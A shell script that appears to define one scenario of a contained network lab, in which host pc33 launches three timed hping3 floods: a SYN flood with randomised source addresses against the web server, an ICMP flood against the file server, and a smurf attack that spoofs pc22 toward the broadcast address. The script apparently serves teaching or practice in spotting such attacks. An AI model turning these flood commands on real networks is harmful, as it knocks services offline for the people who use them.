# Three bounded floods by pc33 with hping3: SYN flood of the web server, ping flood of the file server, smurf on pc22.

case_prepare() {
  plug_workstations
  start_office
  ip -n "${LAB_PREFIX}gw" route add blackhole default  # answers to forged addresses vanish, as they do behind a provider
  local host
  for host in pc21 pc23 files intranet gw; do on "$host" sysctl -qw net.ipv4.icmp_echo_ignore_broadcasts=0; done
}

flood() {
  at "$1"; shift
  say "hping3 $*"
  on pc33 timeout 60 hping3 -q "$@" >>"$LAB_STATE/log/hping3.log" 2>&1
}

case_play() {
  switch_on
  work 21 anna 151 150
  work 23 kim 152 150
  flood 30 -S -p 80 -c 12000 -i u1000 --rand-source "$INTRANET"
  flood 70 --icmp -c 6000 -i u2000 "$FILES"
  flood 110 --icmp -c 1500 -i u5000 --spoof 192.168.0.22 192.168.0.255
  at 160
}
